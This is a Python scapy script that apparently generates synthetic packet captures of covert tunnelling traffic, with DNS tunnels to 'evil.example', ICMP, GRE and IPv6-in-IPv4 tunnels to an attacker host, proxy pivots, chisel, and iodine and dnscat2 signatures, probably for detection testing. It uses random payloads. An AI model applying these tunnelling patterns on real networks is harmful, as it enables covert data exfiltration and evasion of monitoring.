"""Data that travels inside something else: DNS, ICMP, GRE, IPv6 in IPv4, proxies, SSH on another port."""

import base64

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP
from scapy.layers.inet6 import ICMPv6EchoRequest, IPv6
from scapy.layers.l2 import GRE
from scapy.packet import Raw

from pcaps import apps
from pcaps.talk import APP02, ATTACKER, DB01, DNS01, WEB03, WS21, Guest, Tcp, Wire


def dns_tunnel(wire: Wire, client: Guest, count: int) -> None:
    """Base32 in long labels, answers in TXT records."""
    for n in range(count):
        data = base64.b32encode(wire.rng.randbytes(60)).decode().lower().strip("=")
        name = f"{data[:60]}.{data[60:]}.{n:x}.t.evil.example"
        number, port = wire.rng.randrange(1 << 16), wire.port(client)
        question = DNSQR(qname=name, qtype="TXT")
        wire.udp(client, DNS01, port, 53, bytes(DNS(id=number, rd=1, qd=question)))
        wire.wait(0.01)
        answer = DNSRR(rrname=name, type="TXT", ttl=0, rdata=[base64.b64encode(wire.rng.randbytes(90))])
        wire.udp(DNS01, client, 53, port, bytes(DNS(id=number, qr=1, rd=1, ra=1, qd=question, an=answer)))
        wire.wait(0.3)


def named(wire: Wire) -> None:
    """The marks of tools: iodine asks for NULL, dnscat2 names itself, Tor's names leak."""
    apps.lookup(wire, WEB03, "vaaaakasmtrqhjb.t.evil.example", "NULL", b"VACK")
    apps.lookup(wire, WEB03, "dnscat.4f9a01ab0000aa55ff", "TXT", [b"4f9a01"])
    apps.lookup(wire, WS21, "expyuzz4wqqyqhjn.onion", rcode=3)


def icmp_tunnels(wire: Wire) -> None:
    for n in range(14):
        wire.ping(WEB03, ATTACKER, n, wire.rng.randbytes(600))
        wire.wait(0.2)
    wire.wait(12)
    wire.ping(WEB03, ATTACKER, 1, bytes.fromhex("d5200880") + bytes(24))
    wire.ping(APP02, ATTACKER, 1, b"SSH-2.0-OpenSSH_9.6p1 Debian-4\r\n", reply=False)
    wire.ping(DB01, ATTACKER, 1, b"GET /beacon HTTP/1.1\r\nHost: x\r\n\r\n", reply=False)


def encapsulated(wire: Wire) -> None:
    inner = IP(src="172.31.0.1", dst="172.31.0.2", id=5, ttl=64) / ICMP(type=8, id=7, seq=1) / Raw(bytes(range(56)))
    wire.put(wire.network(WEB03, ATTACKER, proto=47) / GRE(proto=0x0800) / inner)
    six = IPv6(src="fd00:99::1", dst="fd00:99::2", hlim=64) / ICMPv6EchoRequest(id=7, seq=1, data=bytes(range(32)))
    wire.put(wire.network(APP02, ATTACKER, proto=41) / six)


def proxies(wire: Wire) -> None:
    ask = b"CONNECT db-01:22 HTTP/1.1\r\nHost: db-01:22\r\n\r\n"
    talk = Tcp(wire, ATTACKER, WEB03, 3128).open()
    talk.client(ask).server("HTTP/1.1 200 Connection established\r\n\r\n").server(
        "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"
    )
    talk.close()
    socks = Tcp(wire, ATTACKER, WEB03, 1080).open()
    socks.client(b"\x05\x01\x00").server(b"\x05\x00").client(b"\x05\x01\x00\x01\x0a\x14\x00\x0b\x00\x16")
    socks.server(b"\x05\x00\x00\x01\x0a\x14\x00\x0b\x00\x16")
    socks.close()
    upgrade = {
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Protocol": "chisel-v3",
    }
    chisel = apps.request("/", "10.20.0.66:8000", agent="Go-http-client/1.1", headers=upgrade)
    apps.http(wire, WEB03, ATTACKER, (chisel, apps.response(b"", "101 Switching Protocols")), port=8000)
    apps.ssh(wire, ATTACKER, APP02, port=2022)


def captures() -> dict[str, Wire]:
    wire = Wire(seed=7)
    dns_tunnel(wire, WEB03, 40)
    for part in (named, icmp_tunnels, encapsulated, proxies):
        wire.wait(5)
        part(wire)
    return {"tunnel": wire}
